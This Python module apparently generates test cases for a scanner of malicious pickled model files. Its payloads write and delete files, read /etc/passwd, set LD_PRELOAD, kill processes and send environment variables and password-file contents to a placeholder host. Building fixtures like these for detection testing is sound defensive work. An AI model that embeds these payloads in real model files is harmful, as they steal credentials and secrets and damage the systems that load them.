"""What runs no code of the attacker's but reads, writes, sends or steals."""

from families import HOST, MARKER, PORT, URL
from families.node import Build, Call, Global, New, files
from families.obscure import method

NAME = "effects"
ABOUT = "files, network, environment"
PATH = Call(Global("pathlib", "PosixPath"), MARKER)
SECRETS = Call(Global("builtins", "str"), Call(Global("builtins", "dict"), Global("os", "environ")))


def cases():
    opened = Call(Global("builtins", "open"), MARKER, "w")
    passwords = Call(Global("linecache", "getlines"), "/etc/passwd")
    target = Call(Global("operator", "add"), URL, Call(Global("urllib.parse", "quote"), SECRETS))
    seen = "'SEALYARD_MARKER' in {} and open(__import__('os').environ['SEALYARD_MARKER'], 'w')"
    writer = lambda module, name, *arguments: Call(Global(module, name), MARKER, *arguments)  # noqa: E731
    return files({
        "open": opened,
        "io-open": writer("io", "open", "w"),
        "c-io-open": writer("_io", "open", "wb"),
        "file-io": writer("_io", "FileIO", "w"),
        "codecs-open": writer("codecs", "open", "w"),
        "gzip-open": writer("gzip", "open", "wb"),
        "gzip-file": writer("gzip", "GzipFile", "wb"),
        "bz2-open": writer("bz2", "open", "wb"),
        "bz2-file": writer("bz2", "BZ2File", "w"),
        "lzma-open": writer("lzma", "open", "wb"),
        "tarfile-open": writer("tarfile", "open", "w"),
        "zipfile": writer("zipfile", "ZipFile", "w"),
        "wave-open": writer("wave", "open", "wb"),
        "shelve-open": Call(Global("shelve", "open"), MARKER),
        "dbm-dumb": Call(Global("dbm.dumb", "open"), MARKER, "c"),
        "sqlite3": Call(Global("sqlite3", "connect"), MARKER),
        "os-open": Call(Global("os", "open"), MARKER, 0o101),
        "os-mkdir": Call(Global("os", "mkdir"), MARKER),
        "os-symlink": Call(Global("os", "symlink"), "/etc/passwd", MARKER),
        "os-remove": Call(Global("os", "remove"), "/tmp/" + MARKER),
        "os-rename": Call(Global("os", "rename"), "/tmp/" + MARKER, "/tmp/x"),
        "os-chmod": Call(Global("os", "chmod"), "/tmp/" + MARKER, 0o777),
        "os-listdir": Call(Global("os", "listdir"), "/tmp/" + MARKER),
        "os-putenv": Call(Global("os", "putenv"), "LD_PRELOAD", "/tmp/" + MARKER),
        "path-touch": method("pathlib", "Path.touch", PATH),
        "path-write-text": method("pathlib", "Path.write_text", PATH, "x"),
        "path-mkdir": method("pathlib", "Path.mkdir", PATH),
        "path-read-text": method("pathlib", "Path.read_text", Call(Global("pathlib", "PosixPath"), "/tmp/" + MARKER)),
        "shutil-copy": Call(Global("shutil", "copyfile"), "/etc/passwd", MARKER),
        "shutil-rmtree": Call(Global("shutil", "rmtree"), "/tmp/" + MARKER, True),
        "shutil-move": Call(Global("shutil", "move"), "/tmp/" + MARKER, "/tmp/x"),
        "shutil-archive": Call(Global("shutil", "make_archive"), MARKER, "zip", "."),
        "tempfile-mkdtemp": Call(Global("tempfile", "mkdtemp"), MARKER, "", "."),
        "logging-filehandler": Call(Global("logging", "FileHandler"), MARKER),
        "logging-rotating": Call(Global("logging.handlers", "RotatingFileHandler"), MARKER),
        "fileinput": Call(Global("builtins", "list"), Call(Global("fileinput", "input"), "/tmp/" + MARKER)),
        "glob": Call(Global("glob", "glob"), "/tmp/" + MARKER + "/*"),
        "compileall": Call(Global("py_compile", "compile"), "/tmp/" + MARKER + ".py"),
        "netrc": Call(Global("netrc", "netrc"), "/tmp/" + MARKER),
        "numpy-save": writer("numpy", "savetxt", [1.0]),
        "numpy-memmap": writer("numpy", "memmap", "uint8", "w+", 0, 1),
        "numpy-fromfile": Call(Global("numpy", "fromfile"), "/tmp/" + MARKER),
        "torch-save": Call(Global("torch", "save"), [1], MARKER),
        "socket-connect": Call(Global("socket", "create_connection"), (HOST, PORT)),
        "socket-method": method("socket", "socket.connect", Call(Global("socket", "socket")), (HOST, PORT)),
        "socket-dns": Call(Global("socket", "gethostbyname"), HOST),
        "socket-getaddrinfo": Call(Global("socket", "getaddrinfo"), HOST, PORT),
        "urlopen": Call(Global("urllib.request", "urlopen"), URL),
        "urlretrieve": Call(Global("urllib.request", "urlretrieve"), URL, MARKER),
        "http-request": method("http.client", "HTTPConnection.request", Call(Global("http.client", "HTTPConnection"), HOST, PORT), "GET", "/"),
        "python2-urllib2": (Call(Global("urllib2", "urlopen"), URL), None),
        "requests-post": Call(Global("requests.api", "post"), URL, {"model": "loaded"}),
        "requests-session": method("requests.sessions", "Session.get", Call(Global("requests.sessions", "Session")), URL),
        "httpx-get": (Call(Global("httpx", "get"), URL), None),
        "ftplib": Call(Global("ftplib", "FTP"), HOST),
        "smtplib-ssl": Call(Global("smtplib", "SMTP_SSL"), HOST, PORT),
        "imaplib": Call(Global("imaplib", "IMAP4"), HOST, PORT),
        "xmlrpc": Call(method("xmlrpc.client", "ServerProxy.__getattr__", Call(Global("xmlrpc.client", "ServerProxy"), URL), "ping")),
        "asyncio-connection": Call(Global("asyncio", "run"), Call(Global("asyncio", "open_connection"), HOST, PORT)),
        "environment": (Global("os", "environ"), "pickle", seen.format("m")),
        "environment-sent": Call(Global("urllib.request", "urlopen"), target),
        "environment-stored": ({"weights": [1.0], "note": SECRETS}, "pickle", seen.format("m['note']")),
        "getenv-sent": Call(Global("socket", "getaddrinfo"), Call(Global("operator", "add"), HOST, Call(Global("os", "getenv"), "NOTHING_SET", "")), PORT),
        "passwords-sent": Call(Global("urllib.request", "urlopen"), Call(Global("urllib.request", "Request"), URL, Call(Global("_codecs", "encode"), Call(Global("builtins", "str"), passwords), "utf-8"))),
        "passwords-read": ({"classes": passwords}, "pickle", "'root' in m['classes'][0] and open(__import__('os').environ['SEALYARD_MARKER'], 'w')"),
        "kill": (Call(Global("os", "kill"), 1, 0), None),
        "exit": (Call(Global("os", "_exit"), 0), None),
        "sys-exit": (Call(Global("sys", "exit"), 3), None),
        "rlimit": (Call(Global("resource", "setrlimit"), 7, (4, 4)), None),
        "sys-path": (Build(New(Global("types", "SimpleNamespace")), {"path": method("sys", "path.insert", 0, "/tmp/" + MARKER)}), None),
        "syslog": (Call(Global("syslog", "syslog"), MARKER), None),
        "recursion": (Call(Global("sys", "setrecursionlimit"), 1 << 30), None),
        "sleep": (Call(Global("time", "sleep"), 86400), None),
    }, 4)
